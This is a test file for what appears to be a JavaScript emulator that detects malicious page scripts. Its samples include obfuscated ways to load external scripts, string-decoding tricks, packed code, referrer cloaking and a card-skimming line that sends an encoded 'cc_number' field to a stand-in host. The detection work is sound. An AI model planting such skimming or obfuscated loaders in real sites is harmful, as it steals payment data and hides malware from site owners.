from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.content.javascript.machine import Machine

ADDRESS = "https://b.example.net/x.js"


def acts(script):
    return [(one.kind, one.what) for one in Machine(script, 300_000).acts if one.kind != "runs"]


@pytest.mark.parametrize(
    "script",
    [
        "var s=document.createElement('script');s.src=A;document.head.appendChild(s)",
        "var s=document['create'+'Element']('SCRIPT');s.setAttribute('src',A)",
        "eval(\"document.createElement('script').src=A\")",
        "new Function('u','document.createElement(\"script\").src=u')(A)",
        "[].constructor.constructor('document.createElement(\"script\").src=A')()",
        "setTimeout(\"document.createElement('script').src=A\",9)",
        "window.onload=function(){document.createElement('script').src=A}",
        "function never(){document.createElement('script').src=A}",
        "if(!navigator.webdriver)document.createElement('script').src=A;",
        "function f(){if(document.cookie)return;document.createElement('script').src=A}f()",
        "class X{go(){document.createElement('script').src=A}}",
        "$.getScript(A)",
        "import(A)",
        "document.x={y:A};document.createElement('script').src=document.x.y",
        "document.write('<script src=\"'+A+'\"></'+'script>')",
        "this['eval']('docu'+'ment.createElement(\"script\").src=A')",
    ],
)
def test_a_script_is_loaded(script):
    assert ("loads", ADDRESS) in acts(f"var A='{ADDRESS}';{script}")


@pytest.mark.parametrize(
    "decoder",
    [
        "String.fromCharCode(104,105)",
        "atob('aGk=')",
        "unescape('%68%69')",
        "'ih'.split('').reverse().join('')",
        "'hXi'.replace(/X/g,'')",
        "'\\x68\\u0069'",
        "['i','h'][1]+['i','h'][0]",
        "(function(){var o='';for(var i=0;i<2;i++)o+=String.fromCharCode([41,40][i]^65);return "
        "o})()",
        "parseInt('628',36).toString(36).replace('628','hi')",
        "[104,105].map(c=>String.fromCharCode(c)).join('')",
        "(function(a){a.push(a.shift());return a})(['i','h']).join('')",
        "`h${'i'}`",
        "(()=>{try{null.x}catch(e){return 'hi'}})()",
    ],
)
def test_a_text_is_worked_out(decoder):
    assert acts(f"location.href={decoder}") == [("leads", "hi")]


def test_an_array_that_is_turned_until_a_sum_fits():
    script = """
    function names(){var a=['8','go','3'];names=function(){return a};return names()}
    (function(f,n){var a=f();while(true){try{if(parseInt(a[0])===n)break;a.push(a.shift())}
    catch(e){a.push(a.shift())}}})(names,3);
    location.href=names()[2];"""
    assert acts(script) == [("leads", "go")]


def test_packed_words_are_put_back():
    script = (
        "eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b'"
        ",'g'),"
        "k[c]);return p}('0.1=\"2\"',3,3,'location|href|there'.split('|'),0,{}))"
    )
    assert acts(script) == [("leads", "there")]


def test_fields_are_followed():
    script = "new Image().src='//b.example.net/?'+btoa(document.getElementById('cc_number').value)"
    (act,) = Machine(script).acts
    assert act.tags >= {"card", "field", "encoded"}


def test_what_was_asked_before():
    script = "if(/google/.test(document.referrer)){location.href='//b.example.net'}"
    (act,) = Machine(script).acts
    assert "referrer" in act.asked


@pytest.mark.parametrize(
    "script",
    ["while(true){}", "function f(){f()}f()", "var a='x';while(true)a+=a", "for(;;)eval('1+1+1+1')",
     "var a=[];while(1)a.push(a)", "a={};a.a=a;location.href=a+''+JSON.stringify(a)"],
)  # fmt: skip
def test_ends_within_its_budget(script):
    machine = Machine(script, 50_000)
    assert machine.used <= 50_001


@given(st.lists(st.sampled_from(
    "a b 1 'x' ( ) [ ] { } . + = ; , function return eval document location if new => ? :".split()
), max_size=25))  # fmt: skip
def test_any_script_is_walked(words):
    assert Machine(" ".join(words), 3000).used <= 3001
